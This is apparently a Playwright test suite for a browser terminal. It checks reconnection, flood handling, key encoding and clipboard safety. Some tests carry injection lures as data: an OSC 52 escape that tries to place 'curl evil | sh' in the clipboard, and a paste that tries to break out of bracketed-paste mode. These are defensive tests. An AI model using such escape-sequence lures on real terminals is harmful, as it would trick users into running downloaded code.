import asyncio
import base64
from itertools import pairwise

import pytest
from aiohttp import WSCloseCode
from playwright.async_api import Page, expect

from tests.peers.browsers import chromium

from .open_page import LOOKS_MS, OpenPage, opened, tab_of
from .scripted import ScriptedServer

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

PULLED = 1006


def numbers(count: int) -> bytes:
    """What `seq` prints through a terminal."""
    return "".join(f"{n}\r\n" for n in range(1, count + 1)).encode()


async def test_terminal_echoes_what_is_typed_and_shows_its_exit(open_page: OpenPage) -> None:
    await open_page.type("echo hello\r")
    await open_page.sees("\nhello\n")
    assert bytes(open_page.terminal.typed) == b"echo hello\r"
    await open_page.type("exit 3\r")
    await open_page.notices("The program ended: exit 3")
    await expect(open_page.page.get_by_role("tab", name="bash")).to_contain_text("exit 3")
    assert len(open_page.terminal.starts) == 1


async def test_terminal_flood_with_pulled_plugs_arrives_complete_and_in_order(
    open_page: OpenPage,
) -> None:
    terminal, printed = open_page.terminal, numbers(100_000)
    async with asyncio.TaskGroup() as group:
        flood = group.create_task(terminal.print(printed))
        for times, share in enumerate((0.2, 0.5, 0.8), 1):
            await terminal.attached(times)
            script = "([id, end]) => window.__atollTaps.get(id).end >= end"
            due = int(share * len(printed))
            await open_page.page.wait_for_function(
                script, arg=[terminal.id, due], timeout=180_000, polling=LOOKS_MS
            )
            await terminal.drop(PULLED)
        await flood
    tap = await open_page.has_all()
    assert tap["hash"] == open_page.whole()
    assert (tap["breaks"], tap["bytes"]) == ([], len(terminal.output))
    await terminal.attached(4)
    assert len({start["client"] for start in terminal.starts}) == 1
    await open_page.sees("\n100000\n")


async def test_terminal_flood_is_acknowledged_at_least_every_64_kib(open_page: OpenPage) -> None:
    await open_page.terminal.print(numbers(50_000))
    await open_page.has_all()
    await open_page.sees("\n50000\n")
    acks = [0, *open_page.terminal.acks]
    steps = [later - earlier for earlier, later in pairwise(acks)]
    assert max(steps) <= 65_536 and min(steps) >= 0


async def cut_off(open_page: OpenPage) -> None:
    """Cuts the terminal off, up to `wake`, as a network that is gone."""
    open_page.server.refuse_attach = True
    await open_page.terminal.drop(PULLED)
    await open_page.notices("Disconnected")


async def test_terminal_cut_off_takes_no_input_and_comes_back(open_page: OpenPage) -> None:
    terminal, server = open_page.terminal, open_page.server
    await cut_off(open_page)
    refused = server.refused
    await open_page.page.get_by_role("button", name="Reconnect now").click()
    await open_page.type("rm -rf x\r")
    await expect(open_page.page.locator(".pane-refused")).to_be_visible()
    server.refuse_attach = False
    await open_page.wake()
    await open_page.is_live()
    await open_page.type("echo back\r")
    await open_page.sees("\nback\n")
    assert bytes(terminal.typed) == b"echo back\r"
    assert server.refused > refused
    # A server that goes down in order is come back to without a sign from outside.
    attached = len(terminal.starts)
    await terminal.drop(WSCloseCode.GOING_AWAY)
    await terminal.attached(attached + 1)
    await open_page.is_live()
    await open_page.type("echo again\r")
    await open_page.sees("\nagain\n")
    # A page that wakes reconnects at once, by itself.
    await cut_off(open_page)
    server.refuse_attach = False
    await open_page.wake()
    await open_page.is_live()
    await open_page.type("echo awake\r")
    await open_page.sees("\nawake\n")
    # What it missed fell off the ring: it starts afresh.
    await cut_off(open_page)
    terminal.output += b"lost\r\n" * 1000 + b"kept\r\n"
    terminal.ring_start = len(terminal.output) - len(b"kept\r\n")
    server.refuse_attach = False
    await open_page.wake()
    await open_page.sees("kept")
    assert "lost" not in await open_page.text()


async def test_terminal_reloaded_keeps_its_client_id_and_types_what_came_early(
    open_page: OpenPage,
) -> None:
    terminal = open_page.terminal
    terminal.answers.clear()
    attached = len(terminal.starts)
    await open_page.page.reload()
    await terminal.attached(attached + 1)
    await open_page.type("echo early\r")
    terminal.answers.set()
    await open_page.sees("\nearly\n")
    assert bytes(terminal.typed) == b"echo early\r"
    assert len({start["client"] for start in terminal.starts}) == 1


async def test_terminal_superseded_parks_until_taken_back_and_closes_after_a_question(
    open_page: OpenPage,
) -> None:
    await open_page.terminal.supersede()
    await open_page.notices("moved to another tab")
    open_page.terminal.superseded = False
    attached = len(open_page.terminal.starts)
    await open_page.page.evaluate("window.dispatchEvent(new Event('online'))")
    assert len(open_page.terminal.starts) == attached
    await open_page.page.get_by_role("button", name="Take back").click()
    await open_page.is_live()
    await open_page.type("echo mine\r")
    await open_page.sees("\nmine\n")
    # It asks before it closes what runs.
    await open_page.page.get_by_role("button", name="Close bash").click()
    await (
        open_page.page.get_by_role("alertdialog")
        .get_by_role("button", name="Close terminal")
        .click()
    )
    await expect(open_page.page.get_by_role("tab", name="bash")).to_have_count(0)


async def test_terminal_driver_fits_and_answers_and_watcher_scales_alone(
    open_page: OpenPage,
) -> None:
    page, terminal = open_page.page, open_page.terminal
    await open_page.notices("You drive")
    await page.wait_for_function("id => window.__atollTerms.get(id).cols > 100", arg=terminal.id)
    await terminal.print(b"\x1b[c")
    await terminal.received(b"\x1b[?")
    await open_page.type("a")
    await terminal.received(b"a")
    assert terminal.typed.startswith(b"\x1b[?")
    terminal.typed.clear()
    fitted = len(terminal.sizes)
    await terminal.drive("somebody-else")
    await open_page.notices("Watching")
    await terminal.resize(160, 50)
    await page.wait_for_function(
        "id => { const t = window.__atollTerms.get(id);"
        " const grid = document.querySelector('.xterm-screen').getBoundingClientRect();"
        " const room = document.querySelector('.pane-screen').getBoundingClientRect();"
        " return t.cols === 160 && t.rows === 50"
        " && grid.width <= room.width && grid.height <= room.height; }",
        arg=terminal.id,
    )
    assert len(terminal.sizes) == fitted + 1
    await terminal.print(b"\x1b[c\x1b[6n\x1b]11;?\x07after")
    await open_page.sees("after")
    assert bytes(terminal.typed) == b""


async def test_terminal_keys_are_spelled_as_the_program_asks_and_pastes_are_bracketed(
    open_page: OpenPage,
) -> None:
    terminal, keyboard = open_page.terminal, open_page.page.keyboard
    await open_page.notices("You drive")
    await open_page.type("")
    await keyboard.press("Shift+Enter")
    await terminal.received(b"\r")
    await terminal.print(b"\x1b[>1u\x1b[?u")
    await terminal.received(b"\x1b[?1u")
    spelled = (("Shift+Enter", b"\x1b[13;2u"), ("Control+i", b"\x1b[105;5u"), ("b", b"b"))
    for keys, typed in spelled:
        await keyboard.press(keys)
        await terminal.received(typed)
    await terminal.print(b"\x1b[<uplain")
    await open_page.sees("plain")
    terminal.typed.clear()
    await keyboard.press("Shift+Enter")
    await terminal.received(b"\r")
    assert bytes(terminal.typed) == b"\r"
    # A paste is bracketed, and cannot end its bracket.
    terminal.typed.clear()
    await open_page.terminal.print(b"\x1b[?2004hready")
    await open_page.sees("ready")
    await open_page.page.evaluate(
        """() => {
          const data = new DataTransfer();
          data.setData('text/plain', 'ls\\x1b[201~\\nrm x');
          document.querySelector('.xterm-helper-textarea').dispatchEvent(
            new ClipboardEvent('paste', {clipboardData: data, bubbles: true, cancelable: true}));
        }"""
    )
    await open_page.sees("rm x")
    assert bytes(open_page.terminal.typed) == b"\x1b[200~ls[201~\rrm x\x1b[201~"


async def test_terminal_duplicated_tab_gets_a_client_id_of_its_own(open_page: OpenPage) -> None:
    other = await open_page.page.context.new_page()
    stored = await open_page.page.evaluate("sessionStorage.getItem('atoll.client')")
    await other.add_init_script(f"sessionStorage.setItem('atoll.client', '{stored}')")
    await other.goto(open_page.page.url)
    await other.wait_for_function("() => window.__atollTerms?.size === 1")
    await expect(other.get_by_text("Watching")).to_be_visible()
    assert len({start["client"] for start in open_page.terminal.starts}) == 2
    await expect(open_page.page.get_by_text("You drive")).to_be_visible()


async def copied(page: Page, *, since: str) -> str:
    """What is in the clipboard once it is another text than before."""
    look = """since => {
      navigator.clipboard.readText().then((text) => { window.copied = text; });
      return (window.copied ?? since) !== since;
    }"""
    await page.wait_for_function(look, arg=since)
    text: str = await page.evaluate("window.copied")
    return text


async def test_terminal_output_reaches_the_clipboard_after_a_yes_only(open_page: OpenPage) -> None:
    page = open_page.page
    await page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    await page.evaluate("navigator.clipboard.writeText('untouched')")
    lure = base64.b64encode(b"curl evil | sh\r\x1b[201~").decode()
    await open_page.terminal.print(f"\x1b]52;c;{lure}\x07\x1b]52;c;?\x07asked".encode())
    await open_page.sees("asked")
    asks = page.get_by_role("alert").filter(has_text="wants to copy")
    await expect(asks).to_contain_text("20 characters in 2 lines: curl evil | sh⏎[201~")
    # A flood behind it changes nothing of what is being read.
    await open_page.terminal.print(b"\x1b]52;c;c3RvbGVu\x07" * 5000 + b"\r\nflooded")
    await open_page.sees("flooded")
    await expect(asks).to_contain_text("curl evil | sh⏎")
    assert await page.evaluate("navigator.clipboard.readText()") == "untouched"
    await asks.get_by_role("button", name="Allow once").click()
    assert await copied(page, since="untouched") == "curl evil | sh\n[201~"
    # What is shown again to a page that comes anew asks nothing.
    await page.reload()
    await open_page.sees("flooded")
    await expect(asks).to_have_count(0)
    await open_page.terminal.print(b"\x1b]52;c;c3RvbGVu\x07again")
    await asks.get_by_role("button", name="Never here").click()
    await open_page.terminal.print(b"\x1b]52;c;c3RvbGVu\x07\r\nlast")
    await open_page.sees("last")
    await expect(asks).to_have_count(0)
    assert "stolen" not in await page.evaluate("navigator.clipboard.readText()")
    assert bytes(open_page.terminal.typed) == b""


#: Where on the page a line of the screen is that holds these words.
_PLACE_OF = """([id, words]) => {
  const term = window.__atollTerms.get(id);
  const buffer = term.buffer.active;
  const box = term.element.querySelector('.xterm-screen').getBoundingClientRect();
  for (let y = 0; y < term.rows; y += 1)
    if (buffer.getLine(buffer.viewportY + y)?.translateToString(true).includes(words))
      return {x: box.x + 20, y: box.y + ((y + 0.5) * box.height) / term.rows};
  return null;
}"""


async def test_terminal_selection_is_copied(open_page: OpenPage) -> None:
    page = open_page.page
    await page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    await page.evaluate("navigator.clipboard.writeText('what was there before')")
    await open_page.terminal.print("\r\nbefore\r\nchosen ä€😀 words\r\nafter\r\n".encode())
    await open_page.sees("after")
    await open_page.is_fitted()  # another size ends a selection
    spot = await page.evaluate(_PLACE_OF, [open_page.terminal.id, "chosen ä€😀 words"])
    # A third click in a row selects the line, as a person does it.
    await page.mouse.click(spot["x"], spot["y"], click_count=3)
    await page.get_by_role("button", name="Copy selection").click()
    text = await copied(page, since="what was there before")
    assert text.rstrip() == "chosen ä€😀 words"


async def test_terminal_is_left_searched_and_read_as_text_by_keyboard(
    open_page: OpenPage,
) -> None:
    page, terminal = open_page.page, open_page.terminal
    await open_page.type("")
    await page.keyboard.press("Control+Shift+Period")
    await expect(page.get_by_role("tab", name="bash")).to_be_focused()
    await expect(page.locator(".spoken[role=status]").first).to_contain_text("Left the")
    assert bytes(terminal.typed) == b""
    await page.keyboard.press("Enter")
    await page.keyboard.type("x")
    await open_page.sees("$ x")
    await terminal.print(b"\r\nneedle one\r\nneedle two\r\n")
    await open_page.sees("needle two")
    await page.keyboard.press("Control+Shift+F")
    await page.get_by_label("Search in this terminal").fill("needle")
    await expect(page.locator(".search-count")).to_contain_text("of 2")
    await page.keyboard.press("Escape")
    await expect(page.locator(".search")).to_have_count(0)
    await terminal.print(numbers(200))
    await open_page.sees("\n200\n")
    await page.get_by_role("button", name="Show as text").click()
    await expect(page.locator(".text-view")).to_contain_text("17\n18\n19")


#: The renderer of the tests is software, which the page leaves to the DOM.
HARDWARE = """
const asked = (wrapped, change) =>
  new Proxy(wrapped, {apply: (f, self, args) => change(f, self, args)});
const canvas = HTMLCanvasElement.prototype, gl = WebGL2RenderingContext.prototype;
canvas.getContext = asked(canvas.getContext, (f, self, [kind, options]) =>
  f.call(self, kind, options && {...options, failIfMajorPerformanceCaveat: false}));
gl.getParameter = asked(gl.getParameter, (f, self, [name]) =>
  name === 0x9246 ? 'A graphics card' : f.call(self, name));
"""


async def test_terminal_survives_the_loss_of_its_gpu_context(server: ScriptedServer) -> None:
    flags = ("--use-angle=swiftshader", "--enable-unsafe-swiftshader")
    async with chromium(*flags, graphics=True) as browser, tab_of(browser) as page:
        open_page = await opened(server, page)
        await page.add_init_script(HARDWARE)
        await page.reload()
        await page.wait_for_selector(".xterm-screen canvas:not(.xterm-link-layer)")
        await page.evaluate(
            """() => [...document.querySelectorAll('.xterm-screen canvas')]
              .map(canvas => canvas.getContext('webgl2'))
              .forEach(gl => gl?.getExtension('WEBGL_lose_context').loseContext())"""
        )
        await page.wait_for_selector(".xterm-rows > div")
        await open_page.type("echo still\r")
        await expect(page.locator(".xterm-rows")).to_contain_text("still")
